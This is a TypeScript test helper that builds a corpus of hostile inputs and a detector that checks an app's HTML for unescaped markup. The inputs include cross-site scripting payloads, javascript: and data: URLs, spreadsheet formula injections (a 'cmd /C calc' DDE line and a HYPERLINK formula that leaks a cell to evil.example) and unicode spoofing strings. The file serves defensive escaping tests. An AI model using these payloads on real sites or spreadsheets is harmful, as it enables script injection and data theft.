import { expect } from 'vitest';

/**
 * A corpus of hostile text for issue 11, point 1: what an attacker who controls a sign-in's fields
 * (display name, user agent, device, city) or a link an admin follows could put there. Every markup
 * payload sets `window.__pwned = 1` if it ever runs and carries a `data-hostile` attribute, so a
 * page where it became markup has an element with that attribute (checked in Chromium and, by
 * scanning the tags, in the HTML of every answer).
 */
export interface Payload {
  name: string;
  value: string;
  kind: 'markup' | 'attribute' | 'url' | 'formula' | 'unicode' | 'long' | 'surrogate';
}

const MARK = 'data-hostile';
const RUN = 'window.__pwned=1';

const markup: Payload[] = [
  { name: 'script tag', value: `<script ${MARK}>${RUN}</script>` },
  { name: 'img onerror', value: `<img src=x onerror="${RUN}" ${MARK}>` },
  { name: 'textarea break-out', value: `</textarea><img src=x onerror=${RUN} ${MARK}>` },
  { name: 'attribute then svg', value: `"><svg onload=${RUN} ${MARK}>` },
  { name: 'single-quoted attribute then svg', value: `'><svg/onload=${RUN} ${MARK}>` },
  { name: 'title break-out', value: `</title></option></select><script ${MARK}>${RUN}</script>` },
  { name: 'htmx attributes', value: `<div hx-get="/logout" hx-trigger="load" hx-on:load="${RUN}" ${MARK}>x</div>` },
  { name: 'javascript link', value: `<a href="javascript:${RUN}" ${MARK}>open</a>` },
  { name: 'iframe srcdoc', value: `<iframe srcdoc="<script>parent.__pwned=1</script>" ${MARK}></iframe>` },
].map((p) => ({ ...p, kind: 'markup' as const }));

const attribute: Payload[] = [
  { name: 'double quote breaker', value: `" ${MARK}="1" onmouseover="${RUN}" autofocus onfocus="${RUN}` },
  { name: 'single quote breaker', value: `' ${MARK}='1' onfocus='${RUN}' autofocus x='` },
  { name: 'backtick breaker', value: `\` ${MARK}=1 onmouseover=${RUN} \`` },
].map((p) => ({ ...p, kind: 'attribute' as const }));

const url: Payload[] = [
  { name: 'javascript: URL', value: `javascript:${RUN}` },
  { name: 'mixed-case javascript: URL', value: `JaVaScRiPt:${RUN}//` },
  { name: 'data: URL', value: `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+` },
].map((p) => ({ ...p, kind: 'url' as const }));

const formula: Payload[] = [
  { name: 'formula =', value: "=cmd|' /C calc'!A0" },
  { name: 'formula +', value: "+1+cmd|' /C calc'!A0" },
  { name: 'formula -', value: "-2+3+cmd|' /C calc'!A0" },
  { name: 'formula @', value: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { name: 'formula after a tab', value: '\t=1+1' },
  { name: 'formula after a CR', value: '\r=1+1' },
  { name: 'hyperlink formula', value: '=HYPERLINK("http://evil.example/?leak="&A1;"open")' },
].map((p) => ({ ...p, kind: 'formula' as const }));

const unicode: Payload[] = [
  { name: 'right-to-left override', value: 'invoice\u202Egnp.exe' },
  { name: 'left-to-right isolate', value: '\u2066admin\u2069 <b>' },
  { name: 'zero-width space', value: 'ad\u200Bmin' },
  { name: 'byte order mark', value: '\uFEFFAlice' },
].map((p) => ({ ...p, kind: 'unicode' as const }));

const repeatTo = (unit: string, length: number) => unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
const UNIT = `<img src=x onerror=${RUN} ${MARK}>`;

/** 10 KB and 1 MB of markup: stored cut to 1,024 characters, so the cut falls inside a tag. */
export const TEN_KB = repeatTo(UNIT, 10 * 1024);
export const ONE_MB = repeatTo(UNIT, 1024 * 1024);

/** 1,024 characters of CJK are 3,072 bytes: more than a PostgreSQL index entry holds (2,704). */
const CJK = [...Array(4000)].map((_, i) => String.fromCodePoint(0x4e00 + ((i * 7919) % 0x5000))).join('');
const EMOJI = [...Array(2000)].map((_, i) => String.fromCodePoint(0x1f300 + ((i * 31) % 0x2ff))).join('');

const long: Payload[] = [
  { name: '10 KB of markup', value: TEN_KB, kind: 'long' },
  { name: '4,000 CJK characters', value: CJK, kind: 'long' },
  { name: '2,000 emoji', value: EMOJI, kind: 'long' },
  { name: '1 MB of markup', value: ONE_MB, kind: 'long' },
];

const surrogate: Payload[] = [
  { name: 'lone high surrogate', value: 'bad\uD800half', kind: 'surrogate' },
  { name: 'lone low surrogate', value: '\uDC00<b>lead</b>', kind: 'surrogate' },
];

export const HOSTILE: readonly Payload[] = [...markup, ...attribute, ...url, ...formula, ...unicode, ...long, ...surrogate];

/** Everything but the 1 MB string, which the tests send on its own (a batch of it is many MB). */
export const HOSTILE_SMALL: readonly Payload[] = HOSTILE.filter((p) => p.value.length < 100_000);

/** The payloads short enough for a query string (8 KB cap) or a filter (200 characters). */
export const HOSTILE_SHORT: readonly Payload[] = HOSTILE.filter((p) => p.value.length <= 200);

interface Tag {
  name: string;
  attrs: { name: string; value: string }[];
  text: string;
}

/** The start tags of an HTML text, read as a browser's tokeniser reads them (quoted, unquoted and bare attributes). */
function* startTags(html: string): Generator<Tag> {
  let i = 0;
  while ((i = html.indexOf('<', i)) !== -1) {
    const open = /^<([a-zA-Z][^\s/>]*)/.exec(html.slice(i, i + 100));
    if (!open) {
      i += 1;
      continue;
    }
    let j = i + open[0].length;
    const attrs: Tag['attrs'] = [];
    for (;;) {
      while (j < html.length && /[\s/]/.test(html[j])) j++;
      if (j >= html.length || html[j] === '>') break;
      let k = j + 1;
      while (k < html.length && !/[\s/>=]/.test(html[k])) k++;
      const name = html.slice(j, k).toLowerCase();
      j = k;
      while (j < html.length && /\s/.test(html[j])) j++;
      let value = '';
      if (html[j] === '=') {
        j++;
        while (j < html.length && /\s/.test(html[j])) j++;
        const quote = html[j];
        if (quote === '"' || quote === "'") {
          const end = html.indexOf(quote, j + 1);
          value = html.slice(j + 1, end === -1 ? html.length : end);
          j = end === -1 ? html.length : end + 1;
        } else {
          let end = j;
          while (end < html.length && !/[\s>]/.test(html[end])) end++;
          value = html.slice(j, end);
          j = end;
        }
      }
      attrs.push({ name, value: decode(value) });
    }
    yield { name: open[1].toLowerCase(), attrs, text: html.slice(i, Math.min(j + 1, i + 120)) };
    i = j;
  }
}

function decode(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&colon;/gi, ':')
    .replace(/&tab;/gi, '\t')
    .replace(/&newline;/gi, '\n')
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

/**
 * What in an HTML answer came from a payload as markup rather than text: a tag or attribute the
 * corpus carries (`data-hostile`, an `on…` handler, `hx-on`, `srcdoc`), a script without our own
 * `src`, a `javascript:` or `data:` link, or a payload verbatim (its `<`, `"` or `'` unescaped).
 * The tags are read as a browser tokenises them: quoted attribute values are one token.
 */
export function injections(html: string, payloads: readonly Payload[] = HOSTILE): string[] {
  const found: string[] = [];
  for (const { name, attrs, text: tag } of startTags(html)) {
    for (const attr of attrs) {
      if (attr.name === MARK || /^on/.test(attr.name) || attr.name.startsWith('hx-on') || attr.name === 'srcdoc') found.push(`attribute ${attr.name} in ${tag}`);
      if (['href', 'src', 'action', 'formaction', 'hx-get', 'hx-post', 'xlink:href'].includes(attr.name) && /^[\s\u0000-\u001f]*(javascript|data|vbscript):/i.test(attr.value)) {
        found.push(`${attr.name}=${attr.value.slice(0, 60)} in ${tag}`);
      }
    }
    if (name === 'script' && !attrs.some((a) => a.name === 'src' && a.value.startsWith('/'))) found.push(`inline script ${tag}`);
    if (['iframe', 'object', 'embed', 'base'].includes(name)) found.push(`<${name}> ${tag}`);
  }
  for (const payload of payloads) {
    const probe = payload.value.slice(0, 200);
    if (/[<>"']/.test(probe) && html.includes(probe)) found.push(`payload "${payload.name}" verbatim`);
  }
  return found;
}

/** Asserts an HTML answer shows no payload as markup. */
export function expectEscaped(html: string, where: string, payloads: readonly Payload[] = HOSTILE): void {
  expect(injections(html, payloads), where).toEqual([]);
}

/**
 * Text as Riskdesk stores it: lone surrogates as U+FFFD (no UTF-8 form), then cut to 1,024
 * characters and 1,536 bytes of UTF-8, the last character "…".
 */
export function storedForm(text: string, max = 1024, maxBytes = 1536): string {
  const clean = text.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD');
  const chars = [...clean];
  if (chars.length <= max && Buffer.byteLength(clean) <= maxBytes) return clean;
  const kept: string[] = [];
  let bytes = 0;
  for (const char of chars.slice(0, max - 1)) {
    if (bytes + Buffer.byteLength(char) > maxBytes - 3) break;
    bytes += Buffer.byteLength(char);
    kept.push(char);
  }
  return `${kept.join('')}…`;
}
